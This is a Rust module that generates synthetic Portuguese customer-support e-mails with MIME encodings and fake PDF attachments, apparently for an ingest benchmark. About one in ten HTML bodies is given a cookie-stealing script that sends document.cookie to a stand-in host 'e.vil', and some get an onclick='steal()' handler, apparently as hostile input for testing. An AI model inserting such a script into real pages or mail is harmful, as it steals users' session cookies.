//! The customer e-mails of the ingest section, made deterministically from
//! their index: [`SENDERS`] customers writing in turn (e-mail `i` is from
//! customer `i % SENDERS`); a customer's first e-mail opens a conversation,
//! each later one answers their previous e-mail (In-Reply-To and
//! References, so it continues that conversation) [`REPLY_PCT`]% of the
//! time and starts a new subject otherwise. Sizes: mostly 2–20 KB,
//! [`BIG_PCT`]% about 100 KB (an order table in HTML), [`ATTACH_PCT`]% with a
//! 50–500 KB PDF in base64. Bodies are plain text, HTML, or both
//! (multipart/alternative), in UTF-8 sent as 8bit, quoted-printable or
//! base64, CRLF line ends, lines under 998 bytes.

use base64::Engine;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Distinct senders.
pub const SENDERS: usize = 2_000;
/// Share of e-mails carrying a PDF, of about-100-KB e-mails, and of later
/// e-mails that answer the sender's previous one (percent).
pub const ATTACH_PCT: u32 = 10;
pub const BIG_PCT: u32 = 5;
pub const REPLY_PCT: u32 = 60;

const WORDS: &[&str] = &[
    "pedido",
    "entrega",
    "prazo",
    "nota",
    "fiscal",
    "boleto",
    "pagamento",
    "cobrança",
    "cartão",
    "transportadora",
    "endereço",
    "produto",
    "defeito",
    "troca",
    "devolução",
    "atendimento",
    "obrigado",
    "por",
    "favor",
    "urgente",
    "não",
    "recebi",
    "ainda",
    "hoje",
    "amanhã",
    "semana",
    "passada",
    "loja",
    "aplicativo",
    "código",
    "rastreamento",
    "número",
    "valor",
    "desconto",
    "reembolso",
    "estorno",
    "cancelamento",
    "fatura",
    "vencimento",
    "segunda",
    "via",
    "cadastro",
    "acesso",
    "conta",
    "há",
    "três",
    "dias",
    "aguardando",
    "resposta",
    "já",
    "liguei",
    "várias",
    "vezes",
    "preciso",
    "solução",
    "caixa",
    "amassada",
    "faltando",
    "peça",
    "garantia",
    "assistência",
    "técnica",
    "horário",
    "sábado",
    "a",
    "o",
    "de",
    "que",
    "e",
    "do",
    "da",
    "em",
    "um",
    "para",
    "com",
    "uma",
    "os",
    "no",
    "se",
    "na",
];

const SUBJECTS: &[&str] = &[
    "Pedido não chegou",
    "Cobrança em duplicidade no cartão",
    "Troca de produto com defeito",
    "Segunda via do boleto",
    "Nota fiscal do pedido",
    "Cancelamento da assinatura",
    "Dúvida sobre o prazo de entrega",
    "Reembolso ainda não caiu",
];

/// One generated e-mail.
pub struct Generated {
    pub raw: Vec<u8>,
    /// Whether it opens a conversation (else it continues the sender's).
    pub opens: bool,
    /// Whether it carries a PDF.
    pub attachment: bool,
}

fn sender(i: usize) -> usize {
    i % SENDERS
}

fn message_id(i: usize) -> String {
    format!("bench.{i}.{:x}@cliente{}.exemplo.com.br", i * 2_654_435_761 % 1_000_003, sender(i))
}

/// Sentences of random words, wrapped at 72 columns, about `bytes` long.
fn prose(rng: &mut StdRng, bytes: usize) -> String {
    let mut out = String::with_capacity(bytes + 128);
    let mut col = 0;
    let mut sentence = 0;
    for _ in 0..bytes {
        if out.len() >= bytes {
            break;
        }
        let n = rng.random_range(6..16);
        for k in 0..n {
            let w = WORDS[rng.random_range(0..WORDS.len())];
            let w = if k == 0 {
                let mut c = w.chars();
                c.next().map(|f| f.to_uppercase().collect::<String>() + c.as_str()).unwrap_or_default()
            } else {
                w.to_string()
            };
            if col + w.len() + 1 > 72 {
                out.push('\n');
                col = 0;
            } else if col > 0 {
                out.push(' ');
                col += 1;
            }
            out.push_str(&w);
            col += w.len();
        }
        out.push(if rng.random_range(0..5) == 0 { '?' } else { '.' });
        col += 1;
        sentence += 1;
        if sentence % 5 == 0 {
            out.push_str("\n\n");
            col = 0;
        }
    }
    out
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

/// The HTML version of `text` as a webmail writes it: a styled table
/// layout, paragraphs, a tracking pixel; sometimes a script or a handler.
fn html_of(rng: &mut StdRng, i: usize, text: &str, order_rows: usize) -> String {
    let mut h = String::with_capacity(text.len() * 2 + order_rows * 300);
    h.push_str(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\n<style>p{margin:0 0 8px} .x{color:red}</style>\n\
         </head>\n<body style=\"font-family:Arial,sans-serif;font-size:14px;color:#222\">\n\
         <table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\"><tr>\n\
         <td style=\"padding:16px;background-color:#f7f7f7\">\n",
    );
    for para in text.split("\n\n") {
        h.push_str("<p style=\"line-height:1.4;margin-bottom:10px\">");
        h.push_str(&html_escape(para));
        h.push_str("</p>\n");
    }
    if order_rows > 0 {
        h.push_str("<table style=\"border-collapse:collapse;width:100%\" border=\"1\" cellpadding=\"4\">\n");
        for r in 0..order_rows {
            h.push_str(&format!(
                "<tr><td style=\"padding:4px;color:#555\">{r}</td><td style=\"padding:4px\">Produto {} \
                 tamanho {} cor {}</td><td align=\"right\" style=\"font-weight:bold\">R$ {},{:02}</td></tr>\n",
                rng.random_range(1000..99_999),
                ["P", "M", "G", "GG"][r % 4],
                ["azul", "preto", "branco", "vermelho"][(r / 4) % 4],
                rng.random_range(5..900),
                rng.random_range(0..100)
            ));
        }
        h.push_str("</table>\n");
    }
    if rng.random_range(0..10) == 0 {
        h.push_str("<script>document.location='https://e.vil/?c='+document.cookie</script>\n");
    }
    if rng.random_range(0..10) == 0 {
        h.push_str("<a href=\"https://loja.exemplo.com.br/pedido\" onclick=\"steal()\">Ver pedido</a>\n");
    }
    h.push_str(&format!(
        "<img src=\"https://track.exemplo.com/open.gif?u={i}\" width=\"1\" height=\"1\" alt=\"\">\n\
         </td></tr></table>\n</body></html>\n"
    ));
    h
}

/// Quoted-printable (RFC 2045) with soft breaks before 76 columns.
pub fn qp(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 5 / 4);
    for line in s.split('\n') {
        let mut col = 0;
        for b in line.bytes() {
            let enc = if b == b'=' || b >= 0x7f || (b < 0x20 && b != b'\t') {
                format!("={b:02X}")
            } else {
                (b as char).to_string()
            };
            if col + enc.len() > 75 {
                out.push_str("=\r\n");
                col = 0;
            }
            out.push_str(&enc);
            col += enc.len();
        }
        out.push_str("\r\n");
    }
    out
}

/// Base64 in 76-column lines.
fn b64(data: &[u8]) -> String {
    let s = base64::engine::general_purpose::STANDARD.encode(data);
    let mut out = String::with_capacity(s.len() + s.len() / 76 * 2 + 2);
    for chunk in s.as_bytes().chunks(76) {
        out.push_str(std::str::from_utf8(chunk).unwrap_or(""));
        out.push_str("\r\n");
    }
    out
}

fn crlf(s: &str) -> String {
    s.replace("\r\n", "\n").replace('\n', "\r\n")
}

/// A text part: its headers and encoded body.
fn part(ctype: &str, body: &str, cte: u32) -> String {
    let (name, enc) = match cte {
        0 => ("8bit", crlf(body)),
        1 => ("quoted-printable", qp(body)),
        _ => ("base64", b64(body.as_bytes())),
    };
    format!("Content-Type: {ctype}; charset=utf-8\r\nContent-Transfer-Encoding: {name}\r\n\r\n{enc}")
}

/// A PDF of `size` bytes (its signature, then incompressible bytes).
fn pdf(rng: &mut StdRng, size: usize) -> Vec<u8> {
    let mut v = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n".to_vec();
    v.resize(size.max(v.len()), 0);
    rng.fill(&mut v[16..]);
    v
}

/// E-mail number `i`.
pub fn generate(i: usize) -> Generated {
    let mut rng = StdRng::seed_from_u64(0x5eed_0000 + i as u64);
    let s = sender(i);
    let round = i / SENDERS;
    let answers = round > 0 && rng.random_range(0..100) < REPLY_PCT;
    let roll = rng.random_range(0..100);
    let attachment = roll < ATTACH_PCT;
    let big = !attachment && roll < ATTACH_PCT + BIG_PCT;
    let kind = rng.random_range(0..10); // 0-4 alternative, 5-7 text, 8-9 html
    let cte = rng.random_range(0..3u32);
    // The whole e-mail's size (without its file), and the text that makes
    // it that size once written as this kind of body in this encoding.
    let total: usize = if big { rng.random_range(90_000..110_000) } else { rng.random_range(2_000..20_000) };
    let enc = |c: u32| [1.0, 1.1, 1.37][c as usize % 3];
    let rows = match (big, kind) {
        (false, _) | (true, 5..=7) => 0,
        (true, 0..=4) => 100,
        _ => 200,
    };
    let (factor, fixed) = match kind {
        0..=4 => (enc(cte % 2) + 1.2 * enc(cte), 1_700.0 * enc(cte)),
        5..=7 => (enc(cte), 0.0),
        _ => (1.2 * enc(cte), 1_700.0 * enc(cte)),
    };
    let fixed = fixed + 1_200.0 + rows as f64 * 190.0 * enc(cte);
    let body_bytes = ((total as f64 - fixed) / factor).max(300.0) as usize;
    let subject = SUBJECTS[(s + round) % SUBJECTS.len()];
    let mut h = format!(
        "Return-Path: <cliente{s}@exemplo.com.br>\r\nReceived: from mx.exemplo.com.br (mx.exemplo.com.br \
         [203.0.113.{}])\r\n\tby mx.empresa.com.br with ESMTPS id {i:x}; {} Dec 2026 10:{:02}:{:02} -0300\r\n\
         From: =?UTF-8?Q?Cliente_{s}_Concei=C3=A7=C3=A3o?= <cliente{s}@exemplo.com.br>\r\n\
         To: Suporte Empresa <suporte@empresa.com.br>\r\n",
        s % 250,
        1 + round % 28,
        (i / 60) % 60,
        i % 60
    );
    if rng.random_range(0..10) == 0 {
        h.push_str(&format!("Cc: Financeiro Cliente {s} <financeiro{s}@exemplo.com.br>\r\n"));
    }
    if answers {
        let parent = message_id(i - SENDERS);
        let grand = if round > 1 { format!("<{}> ", message_id(i - 2 * SENDERS)) } else { String::new() };
        h.push_str(&format!("Subject: Re: {subject}\r\nIn-Reply-To: <{parent}>\r\nReferences: {grand}<{parent}>\r\n"));
    } else {
        h.push_str(&format!("Subject: {subject} (pedido {})\r\n", 40_000 + i));
    }
    h.push_str(&format!(
        "Message-ID: <{}>\r\nDate: {} Dec 2026 10:{:02}:{:02} -0300\r\nMIME-Version: 1.0\r\n\
         User-Agent: Mozilla Thunderbird\r\n",
        message_id(i),
        1 + round % 28,
        (i / 60) % 60,
        i % 60
    ));
    let mut text =
        format!("Olá, equipe de suporte,\n\n{}\n\nAtenciosamente,\nCliente {s}\n", prose(&mut rng, body_bytes));
    if answers {
        text.push_str("\nEm 1 de dez. de 2026, Suporte Empresa escreveu:\n> Olá! Recebemos sua mensagem.\n");
    }
    let body = match kind {
        0..=4 => {
            let html = html_of(&mut rng, i, &text, rows);
            format!(
                "Content-Type: multipart/alternative; boundary=\"alt-{i}\"\r\n\r\n--alt-{i}\r\n{}--alt-{i}\r\n{}--alt-{i}--\r\n",
                part("text/plain", &text, cte % 2),
                part("text/html", &html, cte)
            )
        }
        5..=7 => part("text/plain", &text, cte),
        _ => part("text/html", &html_of(&mut rng, i, &text, rows), cte),
    };
    let raw = if attachment {
        let size = rng.random_range(50_000..500_000);
        let file = pdf(&mut rng, size);
        // The body's own headers move into the first part.
        format!(
            "{h}Content-Type: multipart/mixed; boundary=\"mix-{i}\"\r\n\r\nThis is a multi-part message in MIME format.\r\n\
             --mix-{i}\r\n{body}\r\n--mix-{i}\r\nContent-Type: application/pdf; name=\"nota-fiscal-{i}.pdf\"\r\n\
             Content-Disposition: attachment; filename=\"nota-fiscal-{i}.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n\
             {}--mix-{i}--\r\n",
            b64(&file)
        )
    } else {
        format!("{h}{body}")
    };
    Generated { raw: raw.into_bytes(), opens: !answers, attachment }
}
